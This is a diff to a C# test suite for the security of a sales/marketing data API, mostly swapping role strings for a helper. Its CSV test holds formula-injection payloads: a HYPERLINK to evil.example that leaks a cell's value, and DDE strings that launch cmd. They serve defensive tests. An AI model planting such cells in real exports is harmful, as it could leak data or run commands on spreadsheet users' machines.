@@ -24,7 +24,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [InlineData("marketing")]
     public async Task Text_with_a_nul_byte_is_refused_and_leaves_every_pooled_connection_working(string domain)
     {
-        var client = apps.Client(domain, $"{domain}-writer");
+        var client = apps.Client(domain, DataProductApps.WriterRoles(domain));
         var (url, hostile, field, valid) = domain == "sales"
             ? ("/orders", Order("Ann\u0000Lee"), "salesRep", Order("Ann Lee"))
             : ("/leads", Lead("Nora", company: "Ac\u0000me"), "company", Lead("Nora"));
@@ -54,7 +54,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     {
         var anonymous = apps.Api("sales");
         var reader = apps.Client("sales");
-        var writer = apps.Client("marketing", "marketing-writer");
+        var writer = apps.Client("marketing", DataProductApps.WriterRoles("marketing"));
         var cases = new (HttpClient Client, HttpRequestMessage Request, int Status)[]
         {
             (anonymous, new(HttpMethod.Get, "/datasets/nope"), 404),
@@ -124,7 +124,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [Fact]
     public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text()
     {
-        var writer = apps.Client("marketing", "marketing-writer");
+        var writer = apps.Client("marketing", DataProductApps.WriterRoles("marketing"));
         const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         const string command = "+cmd|' /C calc'!A0";
         const string at = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -217,7 +217,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     public async Task Names_that_are_invisible_or_reorder_text_are_refused(string what, string name)
     {
         var before = await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads");
-        var lead = await apps.Client("marketing", "marketing-writer").PostAsync("/leads", Body(Lead(name)));
+        var lead = await apps.Client("marketing", DataProductApps.WriterRoles("marketing")).PostAsync("/leads", Body(Lead(name)));
         Assert.True(lead.StatusCode == HttpStatusCode.BadRequest, $"{what}: {(int)lead.StatusCode}");
         await lead.ProblemAsync(400, "firstName");
         await (await apps.Client("sales", "sales-writer").PostAsync("/orders", Body(Order(name)))).ProblemAsync(400, "salesRep");
@@ -232,7 +232,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
     [InlineData("O'Brien-Smith")]
     public async Task Names_in_any_script_are_accepted(string name)
     {
-        var created = await (await apps.Client("marketing", "marketing-writer").PostAsync("/leads", Body(Lead(name)))).JsonAsync(HttpStatusCode.Created);
+        var created = await (await apps.Client("marketing", DataProductApps.WriterRoles("marketing")).PostAsync("/leads", Body(Lead(name)))).JsonAsync(HttpStatusCode.Created);
         Assert.Equal(name, await apps.Databases.ScalarAsync<string>("marketing", $"SELECT first_name FROM leads WHERE lead_id = {created.GetProperty("lead_id").GetInt64()}"));
     }
 
@@ -272,7 +272,7 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
         Assert.Contains("sales-writer", bare.GetProperty("detail").GetString());
         await (await As("marketing", apps.Token("sales-steward")).PostAsync("/quality/runs", null)).ProblemAsync(403);
         await (await As("sales", apps.Token("steward")).PostAsync("/quality/runs", null)).ProblemAsync(403);
-        var both = apps.Token("sales-writer", "marketing-writer");
+        var both = apps.Token("sales-writer", "marketing-writer", "pii-reader");
         Assert.Equal(HttpStatusCode.Created, (await As("sales", both).PostAsync("/orders", Body(Order("Ann Lee")))).StatusCode);
         Assert.Equal(HttpStatusCode.Created, (await As("marketing", both).PostAsync("/leads", Body(Lead("Nora")))).StatusCode);
     }
